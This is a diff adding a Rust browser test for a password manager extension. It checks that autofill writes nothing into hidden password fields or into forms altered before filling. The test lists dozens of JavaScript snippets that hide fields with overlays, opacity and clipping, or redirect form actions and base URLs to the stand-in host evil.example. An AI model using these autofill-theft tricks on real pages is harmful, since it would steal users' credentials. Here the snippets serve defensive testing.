@@ -1,0 +1,244 @@
+//! Fields that a user does not see, and forms that become others between the pick and the fill: nothing is written.
+//!
+//! The many ways are tried on the shipped commit itself, in the extension's own world of a real page; a few of them with the whole product and a phone.
+
+use anyhow::{Context as _, Result, ensure};
+use countersign_harness::{
+    Answer, Frame, Kind, Options, Site,
+    spine::{Unlock, number, put_login_page, shows},
+};
+use serde_json::{Value, json};
+
+use crate::rig::{PASSWORD, Rig, TITLE, USERNAME};
+
+const CARD: &str = "Blue card";
+
+/// What a page may do and still be filled: without these, refusing everything would pass.
+const HONEST: [(&str, &str); 9] = [
+    ("nothing", ""),
+    ("it is scrolled away", "document.body.style.paddingBottom = '5000px'; scrollTo(0, 4000)"),
+    ("something clear lies over the field", "cover('pointer-events: none')"),
+    (
+        "a floating label",
+        "const label = document.createElement('label'); label.htmlFor = 'password'; label.textContent = 'Password';
+         label.style.cssText = 'position: absolute; background: #fff; pointer-events: none; transform: translate(4px, -20px)';
+         password.after(label)",
+    ),
+    (
+        "something opaque lies under the field",
+        "around.style.cssText = 'position: relative; z-index: 5'; cover('background: #fff; pointer-events: none; z-index: 1')",
+    ),
+    ("an icon at the end of the field", "cover('background: #fff').style.width = '30px'"),
+    ("the address changes", "history.pushState(null, '', '/account?step=2')"),
+    ("a button that leads elsewhere in another form", "button('submit', 'https://evil.example/'); document.querySelector('.cover').setAttribute('form', 'other')"),
+    ("the field is moved within its form", "login.append(password)"),
+];
+
+/// Ways to hide the password field from who fills it.
+const HIDDEN: [(&str, &str); 31] = [
+    ("display: none", "password.style.display = 'none'"),
+    ("visibility", "password.style.visibility = 'hidden'"),
+    ("no opacity", "password.style.opacity = 0"),
+    ("hardly any opacity", "password.style.opacity = 0.01"),
+    ("no opacity around", "around.style.opacity = 0"),
+    ("hardly any opacity around", "around.style.opacity = 0.05"),
+    ("a filter around", "around.style.filter = 'opacity(0)'"),
+    ("clip-path", "password.style.clipPath = 'inset(50%)'"),
+    ("clip-path around", "around.style.clipPath = 'circle(0)'"),
+    ("an ancestor scaled to nothing", "around.style.transform = 'scale(0)'"),
+    ("an ancestor scaled to next to nothing", "around.style.transform = 'scale(0.01)'"),
+    ("turned away", "around.style.cssText = 'transform: rotateY(180deg); backface-visibility: hidden'"),
+    ("content-visibility", "around.style.contentVisibility = 'hidden'"),
+    ("left of the page", "password.style.cssText = 'position: absolute; left: -9999px'"),
+    ("above the window", "password.style.cssText = 'position: fixed; top: -500px'"),
+    ("below the window", "password.style.cssText = 'position: fixed; top: 200vh'"),
+    (
+        "in a box without room",
+        "password.parentNode.style.cssText = 'display: block; overflow: hidden; width: 0; height: 0'",
+    ),
+    ("one pixel", "password.style.cssText = 'width: 1px; height: 1px; padding: 0; border: 0'"),
+    ("four pixels", "password.style.cssText = 'width: 4px; height: 4px; padding: 0; border: 0'"),
+    ("covered", "cover('background: #fff')"),
+    ("covered by something clear", "cover('')"),
+    ("covered by an image", "cover('', document.body, 'canvas')"),
+    ("covered, and clicks pass", "cover('background: #fff; pointer-events: none')"),
+    ("covered, and clicks pass, importantly", "cover('background: #fff; pointer-events: none !important')"),
+    (
+        "covered by a gradient, and clicks pass",
+        "cover('background: linear-gradient(#fff, #fff); pointer-events: none')",
+    ),
+    ("covered by an image, and clicks pass", "cover('pointer-events: none', document.body, 'canvas')"),
+    (
+        "covered from the top layer, and clicks pass",
+        "const over = cover('background: #fff; pointer-events: none; margin: 0; border: 0'); over.popover = 'manual'; over.showPopover()",
+    ),
+    (
+        "covered, and clicks go on passing for a while",
+        "cover('background: #fff; pointer-events: none; transition: pointer-events 100s step-end allow-discrete').offsetTop",
+    ),
+    (
+        "covered from a closed shadow tree, and clicks pass",
+        "const host = document.createElement('div'); host.className = 'cover'; document.body.append(host);
+         cover('background: #fff; pointer-events: none', host.attachShadow({ mode: 'closed' }))",
+    ),
+    ("covered by what is inert", "cover('background: #fff').inert = true"),
+    ("covered by its own label", "cover('background: #fff', document.body, 'label').htmlFor = 'password'"),
+];
+
+/// Ways to make the form another between the pick and the fill.
+const CHANGED: [(&str, &str); 18] = [
+    ("read-only", "password.readOnly = true"),
+    ("disabled", "password.disabled = true"),
+    ("another type", "password.type = 'text'"),
+    ("another name", "password.name = 'comment'"),
+    ("another id", "password.id = 'comment'"),
+    ("another element", "password.replaceWith(password.cloneNode())"),
+    ("removed", "password.remove()"),
+    ("moved to another form", "other.append(password)"),
+    ("made another form's", "password.setAttribute('form', 'other')"),
+    ("another site's action", "login.action = 'https://evil.example/in'"),
+    ("another action of the same site", "login.setAttribute('action', '/other')"),
+    (
+        "another base",
+        "const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base)",
+    ),
+    ("a button's action", "go.setAttribute('formaction', 'https://evil.example/')"),
+    ("a new button's action", "button('submit', 'https://evil.example/')"),
+    ("a new image's action", "button('image', 'https://evil.example/')"),
+    ("another type at the moment of focus", "password.addEventListener('focus', () => (password.type = 'text'))"),
+    (
+        "another action at the moment of focus",
+        "password.addEventListener('focus', () => (login.action = 'https://evil.example/'))",
+    ),
+    (
+        "another action when the user name was written",
+        "user.addEventListener('input', () => (login.action = 'https://evil.example/'))",
+    ),
+];
+
+/// A function in the extension's own world of the page in front; its value.
+async fn in_extension(rig: &Rig, body: &str) -> Result<Value> {
+    let call = format!(
+        "chrome.tabs.query({{ active: true, lastFocusedWindow: true }})
+           .then(([tab]) => chrome.scripting.executeScript({{ target: {{ tabId: tab.id }}, func: () => {{ {body} }} }}))
+           .then(([outcome]) => outcome.result)"
+    );
+    rig.browser.evaluate_in_worker(&call).await
+}
+
+/// Plans as the worker would: what to write, and what the fields were.
+fn plan() -> String {
+    format!(
+        "const {{ fields, forms }} = countersign.takeSnapshot();
+         globalThis.planned = {}.map(([name, text]) => {{
+           const field = fields.find(field => field.name === name);
+           const {{ id, tag, type, htmlId }} = field;
+           const signature = {{ tag, type, name, htmlId, action: forms[field.form].action }};
+           return {{ field: id, signature, write: {{ text: new TextEncoder().encode(text) }} }};
+         }});
+         globalThis.said = [];
+         countersign.post = message => said.push(message);
+         countersign.parts.receive({{ watch: {{ fields: planned.map(step => step.field) }} }});",
+        json!([["user", USERNAME], ["password", PASSWORD]])
+    )
+}
+
+/// Commits what was planned; the outcome.
+const COMMIT: &str = "countersign.parts.receive({ commit: { commit: 7, steps: planned } });
+    countersign.parts.receive({ watch: { fields: [] } });
+    return said.find(message => message.committed)?.committed.outcome;";
+
+/// What the page has seen of the password, in its fields too.
+async fn has_password(page: &Frame) -> Result<bool> {
+    let known = format!("(look(), seen.some(value => value.includes({})))", json!(&PASSWORD[..7]));
+    Ok(page.evaluate(&known).await? == true)
+}
+
+/// Plans on the honest page, lets the page do something, and commits; the outcome, and whether the page has the password.
+async fn after(rig: &Rig, page: &Frame, deed: &str) -> Result<(String, bool)> {
+    page.evaluate("begin()").await?;
+    in_extension(rig, &plan()).await?;
+    page.evaluate(&format!("(() => {{ {deed} }})()")).await?;
+    let outcome = in_extension(rig, COMMIT).await?;
+    Ok((outcome.as_str().unwrap_or_default().to_owned(), has_password(page).await?))
+}
+
+async fn all_ways(rig: &Rig) -> Result<()> {
+    let page = rig.open(&rig.site.url("/fields")).await?;
+    page.click("#password").await?;
+    page.wait_for("document.querySelector(':popover-open')").await?;
+    for (deed, script) in HONEST {
+        let (outcome, has_it) = after(rig, &page, script).await?;
+        ensure!(outcome == "filled" && has_it, "not filled but {outcome:?}: {deed}");
+    }
+    for (deed, script) in HIDDEN.iter().chain(&CHANGED) {
+        let (outcome, has_it) = after(rig, &page, script).await?;
+        ensure!(outcome == "target-changed" && !has_it, "{outcome:?}, and the page has the password: {has_it}: {deed}");
+    }
+    page.close().await
+}
+
+/// After the phone was asked, with the approval already typed.
+async fn while_the_phone_is_asked(rig: &Rig) -> Result<()> {
+    let deeds = [
+        "login.action = 'https://evil.example/in'",
+        "go.setAttribute('formaction', 'https://evil.example/in')",
+        "cover('background: #fff; pointer-events: none')",
+        "password.addEventListener('focus', () => (password.type = 'text'))",
+    ];
+    for deed in deeds {
+        let page = rig.open(&rig.site.url("/fields")).await?;
+        let chooser = rig.pick(&page, "#password", TITLE).await?;
+        let number = number(&chooser).await?;
+        rig.phone.title("Fill password?").await?;
+        page.evaluate(&format!("(() => {{ {deed} }})()")).await?;
+        rig.phone.approve(number).await?;
+        shows(&chooser, "The form changed while you approved").await.context(deed)?;
+        ensure!(!has_password(&page).await?, "filled: {deed}");
+        ensure!(rig.site.submissions().is_empty());
+        page.close().await?;
+    }
+    Ok(())
+}
+
+/// A field out of sight is not asked for in the first place.
+async fn out_of_sight(rig: &Rig) -> Result<()> {
+    let page = rig.open(&rig.site.url("/checkout")).await?;
+    page.evaluate("void (document.querySelector('[name=code]').style.opacity = 0)").await?;
+    let chooser = rig.pick(&page, "[name=number]", CARD).await?;
+    number(&chooser).await?;
+    rig.phone.shows("card number").await?;
+    let asked = rig.phone.page.text("document.body.innerText").await?;
+    ensure!(!asked.contains("security code"), "the phone is asked for what nobody sees:\n{asked}");
+    chooser.press("Escape").await?;
+    rig.phone.title("Nothing to approve").await?;
+    page.close().await
+}
+
+async fn nothing_is_written(kind: Kind) -> Result<()> {
+    let site = Site::start().await?;
+    put_login_page(&site, &[]);
+    site.put("/fields", Answer::html(include_str!("pages/fields.html")));
+    site.put("/checkout", Answer::html(include_str!("../harness/pages/checkout.html")));
+    let rig = Rig::around(kind, Unlock::Passphrase, Options::default(), site, async |desk, site| {
+        let card = ["4111111111111111", "Ada Kern", "2029-08", "737"].join("\n");
+        desk.command(&["item", "add", CARD, "--kind", "card"], &card).await?;
+        desk.add_login(TITLE, USERNAME, PASSWORD, &site.origin()).await
+    })
+    .await?;
+    all_ways(&rig).await?;
+    while_the_phone_is_asked(&rig).await?;
+    out_of_sight(&rig).await?;
+    let (page, chooser) = rig.ask().await?;
+    rig.approve_and_sign_in(&page, &chooser).await
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn fields_out_of_sight_and_forms_that_change_get_nothing_in_chromium() -> Result<()> {
+    nothing_is_written(Kind::Chromium).await
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn fields_out_of_sight_and_forms_that_change_get_nothing_in_firefox() -> Result<()> {
+    nothing_is_written(Kind::Firefox).await
+}
